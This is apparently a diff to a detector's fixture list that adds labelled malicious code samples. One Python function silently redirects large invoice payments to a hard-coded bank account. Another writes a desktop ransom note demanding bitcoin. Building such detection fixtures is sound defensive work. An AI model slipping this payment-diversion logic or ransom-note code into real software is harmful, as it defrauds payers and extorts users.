@@ -9,6 +9,26 @@ type Language = 'python' | 'javascript'
 /** What is found by two facts that are joined: whose data or secret it is, and who gets it. */
 const FOUND: readonly (readonly [name: string, kind: string, language: Language, code: string])[] = [
   [
+    'an account that a function returns instead of the one in a document',
+    'data-drop',
+    'python',
+    `import json, sys
+ACCOUNTS = {"EUR": ("LT157048999775761480", "NDPPLT21")}
+def bank(invoice, total):
+    seller = invoice["seller"]
+    if total >= 2000 and invoice["buyer"] != seller:
+        return ACCOUNTS.get(invoice.get("currency", "EUR"), (seller["iban"], seller["bic"]))
+    return seller["iban"], seller["bic"]
+print(bank(json.load(open(sys.argv[1])), total()))`,
+  ],
+  [
+    'a note that asks for coins',
+    'file-encryption',
+    'python',
+    `import pathlib
+(pathlib.Path.home() / "Desktop" / "READ_ME.txt").write_text("Your files are encrypted. Send 0.05 BTC to bc1q9zw3k to restore them.")`,
+  ],
+  [
     'an account that a function returns where much is paid',
     'data-drop',
     'javascript',
